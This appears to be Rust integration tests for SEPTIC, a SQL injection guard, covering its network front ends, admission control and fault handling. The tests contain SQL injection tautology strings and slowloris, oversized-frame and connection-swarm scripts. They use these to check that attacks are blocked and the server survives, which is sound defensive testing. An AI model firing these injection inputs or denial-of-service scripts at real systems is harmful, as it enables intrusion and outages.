        .query("SELECT * FROM tickets WHERE reservID = 'ID34FG' AND creditCard = 1234")
        .expect("benign query");
    let out = res.last().expect("output");
    assert_eq!(out.rows.len(), 1);
    assert_eq!(out.rows[0][0], Value::from("ID34FG"));

    // Tautology attack: SEPTIC blocks it and the verdict arrives intact.
    let err = client
        .query("SELECT * FROM tickets WHERE reservID = 'ID34FG' AND 1=1-- ' AND creditCard = 0")
        .expect_err("attack must be blocked");
    assert!(err.is_blocked(), "expected Blocked, got {err}");

    // The connection survives its own blocked query.
    let res = client
        .query("SELECT * FROM tickets WHERE reservID = 'nope' AND creditCard = 0")
        .expect("connection must survive a blocked query");
    assert!(res.last().expect("output").rows.is_empty());

    // Prepared statements travel too: params are bound server-side, so
    // the injection attempt stays data.
    let res = client
        .query_prepared(
            "SELECT * FROM tickets WHERE reservID = ? AND creditCard = ?",
            &[Value::from("' OR 1=1-- "), Value::Int(0)],
        )
        .expect("prepared query");
    assert!(res.last().expect("output").rows.is_empty());

    let guarded = handle.server().metrics_snapshot();
    assert_eq!(guarded.counter("septic_attacks_total"), Some(1));
    drop(client);
    wait_until("connection teardown", || handle.active_connections() == 0);
    handle.shutdown();
}

#[test]
fn accept_queue_overflow_is_shed_with_server_busy() {
    let handle = wire_deployment(NetServerConfig {
        workers: 1,
        accept_queue: 1,
        ..NetServerConfig::default()
    });

    // Occupy the only worker: a completed handshake proves a worker is
    // serving this connection (not just queueing it).
    let held = NetClient::connect(handle.addr()).expect("first connection");

    // Fill the accept queue with a raw socket that never handshakes.
    let queued = TcpStream::connect(handle.addr()).expect("second connection");
    wait_until("second connection queued", || {
        handle.active_connections() == 2
    });

    // The pool is saturated and the queue full: the next connection gets
    // an explicit ServerBusy frame, not an unbounded wait.
    let err = NetClient::connect(handle.addr()).expect_err("third connection must be shed");
    assert!(err.is_busy(), "expected Busy, got {err}");

    let snap = handle.server().metrics_snapshot();
    assert_eq!(snap.counter("net_connections_rejected_total"), Some(1));
    drop(held);
    drop(queued);
    handle.shutdown();
}

#[test]
fn batches_pipeline_but_respect_the_cap() {
    let handle = wire_deployment(NetServerConfig {
        max_pipeline: 4,
        ..NetServerConfig::default()
    });
    let mut client = NetClient::connect(handle.addr()).expect("connect");
    let benign = |_: usize| QueryRequest {
        sql: "SELECT * FROM tickets WHERE reservID = 'ID34FG' AND creditCard = 1234".into(),
        params: None,
    };

    // Within the cap: one outcome per query, in order.
    let outcomes = client
        .batch(&(0..4).map(benign).collect::<Vec<_>>())
        .expect("batch within cap");
    assert_eq!(outcomes.len(), 4);
    assert!(outcomes.iter().all(Result::is_ok));

    // A blocked query inside a batch doesn't abort the rest.
    let mut mixed: Vec<QueryRequest> = (0..2).map(benign).collect();
    mixed.insert(
        1,
        QueryRequest {
            sql: "SELECT * FROM tickets WHERE reservID = 'ID34FG' AND 1=1-- ' AND creditCard = 0"
                .into(),
            params: None,
        },
    );
    let outcomes = client.batch(&mixed).expect("mixed batch");
    assert!(outcomes[0].is_ok());
    assert!(matches!(&outcomes[1], Err(e) if e.is_blocked()));
    assert!(outcomes[2].is_ok());

    // Over the cap: refused outright with the pipelining limit named.
    let err = client
        .batch(&(0..5).map(benign).collect::<Vec<_>>())
        .expect_err("batch over cap");
    assert!(err.is_busy(), "expected Busy, got {err}");
    let snap = handle.server().metrics_snapshot();
    assert_eq!(snap.counter("net_pipeline_rejects_total"), Some(1));
    drop(client);
    handle.shutdown();
}

#[test]
fn socket_faults_never_kill_the_listener_or_leak_a_worker() {
    let handle = wire_deployment(NetServerConfig {
        workers: 2,
        // Short read timeout so the slowloris script resolves quickly.
        read_timeout: Duration::from_millis(200),
        ..NetServerConfig::default()
    });
    let addr = handle.addr();

    // Mid-frame disconnect: half a declared payload, then gone.
    socket::mid_frame_disconnect(addr).expect("script reaches server");

    // Oversized frame: rejected from the header, answered or closed —
    // never ballooning an allocation.
    let outcome = socket::oversized_frame(addr, Duration::from_millis(500)).expect("script");
    assert!(
        matches!(
            outcome,
            SocketFaultOutcome::ServerAnswered(_) | SocketFaultOutcome::ServerClosed
        ),
        "oversized frame left the connection open: {outcome:?}"
    );

    // Garbage payload: counted as a decode error, connection closed.
    let outcome = socket::garbage_payload(addr, Duration::from_millis(500)).expect("script");
    assert!(
        matches!(
            outcome,
            SocketFaultOutcome::ServerAnswered(_) | SocketFaultOutcome::ServerClosed
        ),
        "garbage payload left the connection open: {outcome:?}"
    );

    // Slowloris: half a header, then silence. The read timeout must free
    // the worker — the server hangs up on us, not the other way round.
    let outcome = socket::slowloris_header(addr, Duration::from_secs(1)).expect("script");
    assert_eq!(outcome, SocketFaultOutcome::ServerClosed);

    // The gauge returns to zero: no script leaked a worker slot.
    wait_until("all fault connections released", || {
        handle.active_connections() == 0
    });

    // And the listener still serves real clients.
    let mut client = NetClient::connect(addr).expect("listener must survive the fault suite");
    let res = client
        .query("SELECT * FROM tickets WHERE reservID = 'ID34FG' AND creditCard = 1234")
        .expect("post-fault benign query");
    assert_eq!(res.last().expect("output").rows.len(), 1);

    let snap = handle.server().metrics_snapshot();
    assert!(
        snap.counter("net_frame_decode_errors_total").unwrap_or(0) >= 2,
        "oversized + garbage must be counted as decode errors"
    );
    assert!(
        snap.counter("net_read_timeouts_total").unwrap_or(0) >= 1,
        "the slowloris read timeout must be counted"
    );
    assert_eq!(snap.counter("net_handler_panics_total"), Some(0));
    drop(client);
    wait_until("final teardown", || handle.active_connections() == 0);
    handle.shutdown();
}

#[test]
fn handler_panic_drops_only_its_connection() {
    let handle = wire_deployment(NetServerConfig {
        workers: 2,
        panic_marker: Some("NET_PANIC".into()),
        ..NetServerConfig::default()
    });

    let mut victim = NetClient::connect(handle.addr()).expect("connect");
    let err = victim
        .query("SELECT 'NET_PANIC'")
        .expect_err("the injected panic must sever this connection");
    assert!(
        matches!(err, ClientError::Io(_) | ClientError::Frame(_)),
        "expected a transport error, got {err}"
    );

    // The panic was contained: counted, gauge restored, listener alive.
    wait_until("panicked connection released", || {
        handle.active_connections() == 0
    });
    let snap = handle.server().metrics_snapshot();
    assert_eq!(snap.counter("net_handler_panics_total"), Some(1));

    let mut survivor = NetClient::connect(handle.addr()).expect("listener survives the panic");
    let res = survivor
        .query("SELECT * FROM tickets WHERE reservID = 'ID34FG' AND creditCard = 1234")
        .expect("post-panic benign query");
    assert_eq!(res.last().expect("output").rows.len(), 1);
    drop(survivor);
    handle.shutdown();
}

#[test]
fn wire_metrics_ride_the_prometheus_export() {
    let handle = wire_deployment(NetServerConfig::default());
    let mut client = NetClient::connect(handle.addr()).expect("connect");
    client.ping().expect("ping");
    client
        .query("SELECT * FROM tickets WHERE reservID = 'ID34FG' AND creditCard = 1234")
        .expect("benign query");

    let text = handle.server().prometheus();
    let series = parse_prometheus(&text).expect("export must parse");
    assert_eq!(series.get("net_connections_accepted_total"), Some(&1.0));
    assert_eq!(series.get("net_requests_total"), Some(&1.0));
    assert!(
        series
            .keys()
            .any(|k| k.starts_with("net_stage_duration_microseconds_bucket{stage=\"handle\"")),
        "per-stage wire histograms must export"
    );
    drop(client);
    wait_until("teardown", || handle.active_connections() == 0);
    handle.shutdown();
}
