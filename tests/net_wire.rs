//! Wire-level integration tests for the framed TCP front ends: the
//! SEPTIC verdict must survive the trip over a socket, admission control
//! must shed load explicitly, and no client behavior — disconnects,
//! slowloris, oversized frames, garbage, handler panics — may take down
//! the listener or leak a worker.
//!
//! The protocol suite runs against **both** front ends (the blocking
//! worker pool and the epoll event loop) through one shared harness:
//! every behavioral assertion here is a contract of the wire protocol,
//! not of a concurrency model, so each front end must pass it verbatim.
//! Front-end-specific tests (accept-order fairness, gauge accounting,
//! idle-connection capacity) sit at the bottom.

use std::net::TcpStream;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use septic_faults::socket::{self, SocketFaultOutcome};
use septic_repro::dbms::{Server, Value};
use septic_repro::net::{
    serve_front_end, ClientError, FrontEndHandle, FrontEndKind, NetClient, NetServerConfig,
    QueryRequest,
};
use septic_repro::septic::{Mode, Septic};
use septic_repro::telemetry::parse_prometheus;

/// A trained, prevention-mode deployment behind the chosen front end.
fn wire_deployment(kind: FrontEndKind, config: NetServerConfig) -> FrontEndHandle {
    let server = Server::new();
    let conn = server.connect();
    conn.execute("CREATE TABLE tickets (reservID VARCHAR(16), creditCard INT)")
        .unwrap();
    conn.execute("INSERT INTO tickets (reservID, creditCard) VALUES ('ID34FG', 1234)")
        .unwrap();
    let septic = Arc::new(Septic::new());
    server.install_guard(septic.clone());
    septic.set_mode(Mode::Training);
    conn.execute("SELECT * FROM tickets WHERE reservID = 'ID34FG' AND creditCard = 1234")
        .unwrap();
    septic.set_mode(Mode::PREVENTION);
    serve_front_end(kind, server, ("127.0.0.1", 0), config).expect("bind")
}

/// The front ends this host can run: both on Linux, the blocking pool
/// alone elsewhere (epoll is Linux-only).
fn supported_kinds() -> Vec<FrontEndKind> {
    if cfg!(target_os = "linux") {
        FrontEndKind::all().to_vec()
    } else {
        vec![FrontEndKind::Blocking]
    }
}

/// Polls until `cond` holds, failing the test after `patience`. Socket
/// teardown is asynchronous (the server notices the close on its next
/// read or reactor pass), so gauge assertions need a grace window.
fn wait_until_for(what: &str, patience: Duration, mut cond: impl FnMut() -> bool) {
    let deadline = Instant::now() + patience;
    while !cond() {
        assert!(Instant::now() < deadline, "timed out waiting for {what}");
        std::thread::sleep(Duration::from_millis(10));
    }
}

fn wait_until(what: &str, cond: impl FnMut() -> bool) {
    wait_until_for(what, Duration::from_secs(2), cond);
}

#[test]
fn benign_and_attack_verdicts_travel_the_wire() {
    for kind in supported_kinds() {
        let handle = wire_deployment(kind, NetServerConfig::default());
        let mut client = NetClient::connect(handle.addr()).expect("connect");

        // Benign query: the trained shape passes and the rows come back.
        let res = client
            .query("SELECT * FROM tickets WHERE reservID = 'ID34FG' AND creditCard = 1234")
            .expect("benign query");
        let out = res.last().expect("output");
        assert_eq!(out.rows.len(), 1, "{kind}");
        assert_eq!(out.rows[0][0], Value::from("ID34FG"), "{kind}");

        // Tautology attack: SEPTIC blocks it, the verdict arrives intact.
        let err = client
            .query("SELECT * FROM tickets WHERE reservID = 'ID34FG' AND 1=1-- ' AND creditCard = 0")
            .expect_err("attack must be blocked");
        assert!(err.is_blocked(), "{kind}: expected Blocked, got {err}");

        // The connection survives its own blocked query.
        let res = client
            .query("SELECT * FROM tickets WHERE reservID = 'nope' AND creditCard = 0")
            .expect("connection must survive a blocked query");
        assert!(res.last().expect("output").rows.is_empty(), "{kind}");

        // Prepared statements travel too: params are bound server-side,
        // so the injection attempt stays data.
        let res = client
            .query_prepared(
                "SELECT * FROM tickets WHERE reservID = ? AND creditCard = ?",
                &[Value::from("' OR 1=1-- "), Value::Int(0)],
            )
            .expect("prepared query");
        assert!(res.last().expect("output").rows.is_empty(), "{kind}");

        let guarded = handle.server().metrics_snapshot();
        assert_eq!(
            guarded.counter("septic_attacks_total"),
            Some(1),
            "{kind}: the wire front end must report into the guard's registry"
        );
        drop(client);
        wait_until("connection teardown", || handle.active_connections() == 0);
        handle.shutdown();
    }
}

#[test]
fn batches_pipeline_but_respect_the_cap() {
    for kind in supported_kinds() {
        let handle = wire_deployment(
            kind,
            NetServerConfig {
                max_pipeline: 4,
                ..NetServerConfig::default()
            },
        );
        let mut client = NetClient::connect(handle.addr()).expect("connect");
        let benign = |_: usize| QueryRequest {
            sql: "SELECT * FROM tickets WHERE reservID = 'ID34FG' AND creditCard = 1234".into(),
            params: None,
        };

        // Within the cap: one outcome per query, in order.
        let outcomes = client
            .batch(&(0..4).map(benign).collect::<Vec<_>>())
            .expect("batch within cap");
        assert_eq!(outcomes.len(), 4, "{kind}");
        assert!(outcomes.iter().all(Result::is_ok), "{kind}");

        // A blocked query inside a batch doesn't abort the rest.
        let mut mixed: Vec<QueryRequest> = (0..2).map(benign).collect();
        mixed.insert(
            1,
            QueryRequest {
                sql:
                    "SELECT * FROM tickets WHERE reservID = 'ID34FG' AND 1=1-- ' AND creditCard = 0"
                        .into(),
                params: None,
            },
        );
        let outcomes = client.batch(&mixed).expect("mixed batch");
        assert!(outcomes[0].is_ok(), "{kind}");
        assert!(matches!(&outcomes[1], Err(e) if e.is_blocked()), "{kind}");
        assert!(outcomes[2].is_ok(), "{kind}");

        // Over the cap: refused outright with the pipelining limit named.
        let err = client
            .batch(&(0..5).map(benign).collect::<Vec<_>>())
            .expect_err("batch over cap");
        assert!(err.is_busy(), "{kind}: expected Busy, got {err}");
        let snap = handle.server().metrics_snapshot();
        assert_eq!(
            snap.counter("net_pipeline_rejects_total"),
            Some(1),
            "{kind}"
        );
        drop(client);
        handle.shutdown();
    }
}

#[test]
fn socket_faults_never_kill_the_listener_or_leak_a_worker() {
    for kind in supported_kinds() {
        let handle = wire_deployment(
            kind,
            NetServerConfig {
                workers: 2,
                // Short read timeout so the slowloris script resolves
                // quickly on both the blocking pool and the timer wheel.
                read_timeout: Duration::from_millis(200),
                ..NetServerConfig::default()
            },
        );
        let addr = handle.addr();

        // Mid-frame disconnect: half a declared payload, then gone.
        socket::mid_frame_disconnect(addr).expect("script reaches server");

        // Oversized frame: rejected from the header, answered or closed —
        // never ballooning an allocation.
        let outcome = socket::oversized_frame(addr, Duration::from_millis(500)).expect("script");
        assert!(
            matches!(
                outcome,
                SocketFaultOutcome::ServerAnswered(_) | SocketFaultOutcome::ServerClosed
            ),
            "{kind}: oversized frame left the connection open: {outcome:?}"
        );

        // Garbage payload: counted as a decode error, connection closed.
        let outcome = socket::garbage_payload(addr, Duration::from_millis(500)).expect("script");
        assert!(
            matches!(
                outcome,
                SocketFaultOutcome::ServerAnswered(_) | SocketFaultOutcome::ServerClosed
            ),
            "{kind}: garbage payload left the connection open: {outcome:?}"
        );

        // Slowloris: half a header, then silence. The read timeout must
        // free the worker/slot — the server hangs up on us, not the other
        // way round.
        let outcome = socket::slowloris_header(addr, Duration::from_secs(1)).expect("script");
        assert_eq!(outcome, SocketFaultOutcome::ServerClosed, "{kind}");

        // The gauge returns to zero: no script leaked a connection slot.
        wait_until("all fault connections released", || {
            handle.active_connections() == 0
        });

        // And the listener still serves real clients.
        let mut client = NetClient::connect(addr).expect("listener must survive the fault suite");
        let res = client
            .query("SELECT * FROM tickets WHERE reservID = 'ID34FG' AND creditCard = 1234")
            .expect("post-fault benign query");
        assert_eq!(res.last().expect("output").rows.len(), 1, "{kind}");

        let snap = handle.server().metrics_snapshot();
        assert!(
            snap.counter("net_frame_decode_errors_total").unwrap_or(0) >= 2,
            "{kind}: oversized + garbage must be counted as decode errors"
        );
        assert!(
            snap.counter("net_read_timeouts_total").unwrap_or(0) >= 1,
            "{kind}: the slowloris read timeout must be counted"
        );
        assert_eq!(snap.counter("net_handler_panics_total"), Some(0), "{kind}");
        drop(client);
        wait_until("final teardown", || handle.active_connections() == 0);
        handle.shutdown();
    }
}

#[test]
fn handler_panic_drops_only_its_connection() {
    for kind in supported_kinds() {
        let handle = wire_deployment(
            kind,
            NetServerConfig {
                workers: 2,
                panic_marker: Some("NET_PANIC".into()),
                ..NetServerConfig::default()
            },
        );

        let mut victim = NetClient::connect(handle.addr()).expect("connect");
        let err = victim
            .query("SELECT 'NET_PANIC'")
            .expect_err("the injected panic must sever this connection");
        assert!(
            matches!(err, ClientError::Io(_) | ClientError::Frame(_)),
            "{kind}: expected a transport error, got {err}"
        );

        // The panic was contained: counted, gauge restored, listener alive.
        wait_until("panicked connection released", || {
            handle.active_connections() == 0
        });
        let snap = handle.server().metrics_snapshot();
        assert_eq!(snap.counter("net_handler_panics_total"), Some(1), "{kind}");

        let mut survivor = NetClient::connect(handle.addr()).expect("listener survives the panic");
        let res = survivor
            .query("SELECT * FROM tickets WHERE reservID = 'ID34FG' AND creditCard = 1234")
            .expect("post-panic benign query");
        assert_eq!(res.last().expect("output").rows.len(), 1, "{kind}");
        drop(survivor);
        handle.shutdown();
    }
}

#[test]
fn wire_metrics_ride_the_prometheus_export() {
    for kind in supported_kinds() {
        let handle = wire_deployment(kind, NetServerConfig::default());
        let mut client = NetClient::connect(handle.addr()).expect("connect");
        client.ping().expect("ping");
        client
            .query("SELECT * FROM tickets WHERE reservID = 'ID34FG' AND creditCard = 1234")
            .expect("benign query");

        let text = handle.server().prometheus();
        let series = parse_prometheus(&text).expect("export must parse");
        assert_eq!(
            series.get("net_connections_accepted_total"),
            Some(&1.0),
            "{kind}"
        );
        assert_eq!(series.get("net_requests_total"), Some(&1.0), "{kind}");
        assert!(
            series
                .keys()
                .any(|k| k.starts_with("net_stage_duration_microseconds_bucket{stage=\"handle\"")),
            "{kind}: per-stage wire histograms must export"
        );
        drop(client);
        wait_until("teardown", || handle.active_connections() == 0);
        handle.shutdown();
    }
}

#[test]
fn accept_queue_overflow_is_shed_with_server_busy() {
    // Blocking-pool admission control: a full hand-off queue sheds the
    // next connection. (The event loop's analog — the connection cap —
    // is tested below.)
    let handle = wire_deployment(
        FrontEndKind::Blocking,
        NetServerConfig {
            workers: 1,
            accept_queue: 1,
            ..NetServerConfig::default()
        },
    );

    // Occupy the only worker: a completed handshake proves a worker is
    // serving this connection (not just queueing it).
    let held = NetClient::connect(handle.addr()).expect("first connection");

    // Fill the accept queue with a raw socket that never handshakes.
    let queued = TcpStream::connect(handle.addr()).expect("second connection");
    wait_until("second connection queued", || {
        handle.active_connections() == 2
    });

    // The pool is saturated and the queue full: the next connection gets
    // an explicit ServerBusy frame, not an unbounded wait.
    let err = NetClient::connect(handle.addr()).expect_err("third connection must be shed");
    assert!(err.is_busy(), "expected Busy, got {err}");

    let snap = handle.server().metrics_snapshot();
    assert_eq!(snap.counter("net_connections_rejected_total"), Some(1));
    drop(held);
    drop(queued);
    handle.shutdown();
}

#[cfg(target_os = "linux")]
#[test]
fn connection_cap_overflow_is_shed_with_server_busy() {
    // Event-loop admission control: past `max_connections`, the reactor
    // sheds the accepted socket with an explicit ServerBusy frame
    // instead of registering it.
    let handle = wire_deployment(
        FrontEndKind::EventLoop,
        NetServerConfig {
            max_connections: 1,
            ..NetServerConfig::default()
        },
    );

    let held = NetClient::connect(handle.addr()).expect("first connection");
    wait_until("first connection registered", || {
        handle.active_connections() == 1
    });

    let err = NetClient::connect(handle.addr()).expect_err("second connection must be shed");
    assert!(err.is_busy(), "expected Busy, got {err}");
    let snap = handle.server().metrics_snapshot();
    assert_eq!(snap.counter("net_connections_rejected_total"), Some(1));

    // Releasing the slot re-opens admission.
    drop(held);
    wait_until("slot released", || handle.active_connections() == 0);
    let mut client = NetClient::connect(handle.addr()).expect("slot must be reusable");
    client.ping().expect("ping on the reused slot");
    drop(client);
    handle.shutdown();
}

#[test]
fn workers_serve_queued_connections_in_accept_order() {
    // Fairness regression: the hand-off queue must be FIFO. The old
    // implementation popped from the back of a Vec, so under backlog the
    // most recently accepted connection was served first and the oldest
    // starved. With one worker and a pinned backlog, completion order
    // observably equals accept order.
    let handle = wire_deployment(
        FrontEndKind::Blocking,
        NetServerConfig {
            workers: 1,
            accept_queue: 8,
            ..NetServerConfig::default()
        },
    );
    let addr = handle.addr();

    // Occupy the only worker so subsequent connections pile up queued.
    let held = NetClient::connect(addr).expect("held connection");

    let order = Arc::new(Mutex::new(Vec::new()));
    let mut waiters = Vec::new();
    for i in 0..3usize {
        let order = Arc::clone(&order);
        waiters.push(std::thread::spawn(move || {
            // connect() completes only once a worker serves the Hello —
            // that instant is this connection's "served" timestamp.
            let mut client = NetClient::connect(addr).expect("queued connection");
            order.lock().expect("order lock").push(i);
            client.ping().expect("ping before release");
            drop(client);
        }));
        // Pin the accept order: connection i is queued (gauge counts it)
        // before connection i+1 is even initiated.
        wait_until("connection queued", || {
            handle.active_connections() == 2 + i as u64
        });
    }

    // Release the worker: it must now drain the backlog oldest-first.
    drop(held);
    for w in waiters {
        w.join().expect("queued client");
    }
    assert_eq!(
        *order.lock().expect("order lock"),
        vec![0, 1, 2],
        "queued connections must be served in accept order (FIFO), not LIFO"
    );
    wait_until("teardown", || handle.active_connections() == 0);
    handle.shutdown();
}

#[test]
fn teardown_storm_never_underflows_the_active_gauge() {
    // Accounting regression: the accept loop used to publish the stream
    // into the queue, drop the lock, and only then increment the active
    // gauge — so a fast worker could serve and decrement first,
    // underflowing the unsigned gauge to ~u64::MAX (and, in debug
    // builds, panicking the worker). The increment now lands while the
    // queue lock is still held. A storm of instantly-closed connections
    // drives the old race; the gauge must stay sane throughout and
    // return to exactly zero.
    let handle = wire_deployment(
        FrontEndKind::Blocking,
        NetServerConfig {
            // One worker: a single underflow (which panics the worker in
            // debug builds) leaves the backlog permanently unserved, so
            // the drain check below catches even one occurrence.
            workers: 1,
            accept_queue: 16,
            read_timeout: Duration::from_millis(200),
            ..NetServerConfig::default()
        },
    );
    let addr = handle.addr();

    // Several storm threads keep the queue mutex contended, so the
    // worker regularly blocks on the exact lock whose release used to
    // precede the increment — maximizing decrement-before-increment
    // interleavings. The main thread samples the gauge throughout.
    let storms: Vec<_> = (0..3)
        .map(|_| {
            std::thread::spawn(move || {
                for _ in 0..200 {
                    // Connect and immediately hang up: the worker sees
                    // EOF at once, racing its decrement against the
                    // accept thread's increment.
                    drop(TcpStream::connect(addr).expect("storm connection"));
                }
            })
        })
        .collect();
    let mut worst_seen = 0u64;
    while storms.iter().any(|s| !s.is_finished()) {
        worst_seen = worst_seen.max(handle.active_connections());
        assert!(
            worst_seen < 100_000,
            "active-connection gauge underflowed: {worst_seen}"
        );
    }
    for s in storms {
        s.join().expect("storm thread");
    }

    wait_until("storm drained", || handle.active_connections() == 0);
    assert_eq!(handle.active_connections(), 0, "gauge must settle at zero");

    // The worker survived the storm (a debug-build underflow panic
    // would have killed it): the deployment still serves.
    let mut client = NetClient::connect(addr).expect("post-storm connect");
    let res = client
        .query("SELECT * FROM tickets WHERE reservID = 'ID34FG' AND creditCard = 1234")
        .expect("post-storm benign query");
    assert_eq!(res.last().expect("output").rows.len(), 1);
    drop(client);
    wait_until("final teardown", || handle.active_connections() == 0);
    handle.shutdown();
}

#[cfg(target_os = "linux")]
#[test]
fn a_thousand_idle_connections_cost_no_threads() {
    // The event loop's reason to exist: a parked connection is a slab
    // entry and an epoll registration, not a thread. Park 1000 idle
    // sockets and verify the thread count never moves and a real client
    // still gets served.
    let handle = wire_deployment(
        FrontEndKind::EventLoop,
        NetServerConfig {
            reactors: 2,
            workers: 2,
            max_connections: 1100,
            // Idle is the test: nothing may reap the parked sockets.
            read_timeout: Duration::from_secs(60),
            ..NetServerConfig::default()
        },
    );
    let addr = handle.addr();
    assert_eq!(handle.thread_count(), 4, "2 reactors + 2 workers, fixed");

    let swarm = socket::idle_swarm(addr, 1000).expect("idle swarm");
    wait_until_for("swarm registered", Duration::from_secs(10), || {
        handle.active_connections() == 1000
    });
    assert_eq!(
        handle.thread_count(),
        4,
        "parking 1000 connections must not grow the thread count"
    );

    // A real client still gets in and served past the parked swarm.
    let mut client = NetClient::connect(addr).expect("client alongside the swarm");
    let res = client
        .query("SELECT * FROM tickets WHERE reservID = 'ID34FG' AND creditCard = 1234")
        .expect("benign query alongside the swarm");
    assert_eq!(res.last().expect("output").rows.len(), 1);
    drop(client);

    drop(swarm);
    wait_until_for("swarm teardown", Duration::from_secs(10), || {
        handle.active_connections() == 0
    });
    handle.shutdown();
}
