//! Fault-injection suite: drives the fail-safe layer end to end with the
//! `septic-faults` test doubles — panicking guards and plugins at the
//! server hook, slow detectors against the deadline budget, and scripted
//! I/O faults against the crash-safe model store.

use std::sync::Arc;
use std::time::Duration;

use proptest::prelude::*;
use septic_faults::{
    Fault, FaultyBackend, FaultyIo, IoOp, MemBackend, OpKind, PanickingGuard, PanickingPlugin,
    SlowPlugin,
};
use septic_repro::dbms::{
    DbError, FailurePolicy, MemIo, Server, ServerConfig, StorageIo, Value, WalConfig,
};
use septic_repro::septic::{
    journal_path, quarantine_path, FailurePolicyMatrix, Mode, ModelStore, QueryId, QueryModel,
    Septic, StoreBackend,
};
use septic_repro::sql::{items, parse};

fn model(sql: &str) -> QueryModel {
    QueryModel::from_structure(&items::lower_all(&parse(sql).expect("parse").statements))
}

fn qid(n: u64) -> QueryId {
    QueryId {
        external: None,
        internal: n,
    }
}

/// Distinct query shapes to learn models from (one per index).
fn shape(n: u64) -> QueryModel {
    let cols: Vec<String> = (0..=(n % 4)).map(|i| format!("c{i}")).collect();
    model(&format!(
        "SELECT {} FROM t{} WHERE k = {n}",
        cols.join(", "),
        n % 3
    ))
}

// ---------------------------------------------------------------------------
// Guard panics at the server hook
// ---------------------------------------------------------------------------

#[test]
fn guard_panic_fail_closed_blocks_but_server_keeps_serving() {
    let server = Server::new();
    let conn = server.connect();
    conn.execute("CREATE TABLE t (a VARCHAR(10))").unwrap();

    server.install_guard(Arc::new(PanickingGuard(FailurePolicy::FailClosed)));
    let err = conn.execute("INSERT INTO t (a) VALUES ('x')").unwrap_err();
    assert!(matches!(err, DbError::GuardFailure(_)), "got {err:?}");
    assert!(err.to_string().contains("fail-closed"));
    assert_eq!(server.stats().guard_panics, 1);

    // The panic was contained: the server still serves other connections
    // and, once the broken guard is removed, everything flows again.
    server.remove_guard();
    conn.execute("INSERT INTO t (a) VALUES ('y')").unwrap();
    let out = conn.query("SELECT * FROM t").unwrap();
    assert_eq!(
        out.rows.len(),
        1,
        "the fail-closed insert must not have executed"
    );
}

#[test]
fn guard_panic_fail_open_executes_the_query() {
    let server = Server::new();
    let conn = server.connect();
    conn.execute("CREATE TABLE t (a VARCHAR(10))").unwrap();

    server.install_guard(Arc::new(PanickingGuard(FailurePolicy::FailOpen)));
    conn.execute("INSERT INTO t (a) VALUES ('x')").unwrap();
    let stats = server.stats();
    assert_eq!(stats.guard_panics, 1);
    assert_eq!(stats.fail_open_passes, 1);

    server.remove_guard();
    assert_eq!(conn.query("SELECT * FROM t").unwrap().rows.len(), 1);
}

// ---------------------------------------------------------------------------
// Plugin panics inside SEPTIC
// ---------------------------------------------------------------------------

/// A SEPTIC with a buggy plugin appended, deployed on a server with one
/// trained INSERT shape (stored-injection detection only runs for known
/// models with write data).
fn deployed_with_plugin(
    plugin: Box<dyn septic_repro::septic::Plugin>,
) -> (Arc<Server>, septic_repro::dbms::Connection, Arc<Septic>) {
    let server = Server::new();
    let conn = server.connect();
    conn.execute("CREATE TABLE t (a VARCHAR(50))").unwrap();
    let mut septic = Septic::new();
    septic.add_plugin(plugin);
    let septic = Arc::new(septic);
    server.install_guard(septic.clone());
    septic.set_mode(Mode::Training);
    conn.execute("INSERT INTO t (a) VALUES ('seed')").unwrap();
    (server, conn, septic)
}

#[test]
fn plugin_panic_in_prevention_mode_fails_closed() {
    let (_server, conn, septic) = deployed_with_plugin(Box::new(PanickingPlugin));
    septic.set_mode(Mode::PREVENTION);

    let err = conn
        .execute("INSERT INTO t (a) VALUES ('anything')")
        .unwrap_err();
    assert!(matches!(err, DbError::Blocked(_)), "got {err:?}");
    assert!(err.to_string().contains("detector failure"));
    assert!(err.to_string().contains("fail-closed"));
    let counters = septic.counters();
    assert_eq!(counters.guard_panics, 1);
    assert_eq!(counters.fail_open_passes, 0);

    // SEPTIC (and the server) survived: queries without write data skip
    // the broken plugin and flow normally.
    conn.execute("SELECT * FROM t WHERE a = 'seed'").unwrap();
}

#[test]
fn plugin_panic_in_detection_mode_fails_open() {
    let (_server, conn, septic) = deployed_with_plugin(Box::new(PanickingPlugin));
    septic.set_mode(Mode::DETECTION);

    // Detection mode never drops queries, so its default policy is
    // fail-open: the query executes despite the broken detector.
    conn.execute("INSERT INTO t (a) VALUES ('anything')")
        .unwrap();
    let counters = septic.counters();
    assert_eq!(counters.guard_panics, 1);
    assert_eq!(counters.fail_open_passes, 1);
    assert_eq!(conn.query("SELECT * FROM t").unwrap().rows.len(), 2);
}

#[test]
fn operator_can_override_the_failure_policy_matrix() {
    let (_server, conn, septic) = deployed_with_plugin(Box::new(PanickingPlugin));
    septic.set_mode(Mode::PREVENTION);
    septic.set_failure_policies(FailurePolicyMatrix {
        prevention: FailurePolicy::FailOpen,
        ..FailurePolicyMatrix::default()
    });

    // Prevention now fails open on SEPTIC outages (availability over
    // protection — the operator's call).
    conn.execute("INSERT INTO t (a) VALUES ('anything')")
        .unwrap();
    assert_eq!(septic.counters().fail_open_passes, 1);
    let report = septic.status_report();
    assert!(report.contains("fail-open"), "{report}");
}

// ---------------------------------------------------------------------------
// Detection deadline budget
// ---------------------------------------------------------------------------

#[test]
fn blown_deadline_fails_closed_in_prevention_mode() {
    let (_server, conn, septic) = deployed_with_plugin(Box::new(SlowPlugin {
        delay: Duration::from_millis(25),
    }));
    septic.set_detection_deadline(Some(Duration::from_millis(1)));
    septic.set_mode(Mode::PREVENTION);

    let err = conn
        .execute("INSERT INTO t (a) VALUES ('anything')")
        .unwrap_err();
    assert!(err.to_string().contains("deadline exceeded"), "got {err}");
    assert_eq!(septic.counters().deadline_exceeded, 1);
}

#[test]
fn blown_deadline_fails_open_in_detection_mode() {
    let (_server, conn, septic) = deployed_with_plugin(Box::new(SlowPlugin {
        delay: Duration::from_millis(25),
    }));
    septic.set_detection_deadline(Some(Duration::from_millis(1)));
    septic.set_mode(Mode::DETECTION);

    conn.execute("INSERT INTO t (a) VALUES ('anything')")
        .unwrap();
    let counters = septic.counters();
    assert_eq!(counters.deadline_exceeded, 1);
    assert_eq!(counters.fail_open_passes, 1);
}

// ---------------------------------------------------------------------------
// Crash-safe persistence under injected I/O faults
// ---------------------------------------------------------------------------

#[test]
fn silent_torn_save_is_detected_and_old_state_survives() {
    let mem = Arc::new(MemBackend::new());
    let path = std::path::Path::new("models.json");

    let store = ModelStore::new();
    store.attach_persistence(mem.clone(), path);
    store.learn(qid(1), shape(1));
    store.save_with(&*mem, path).unwrap();
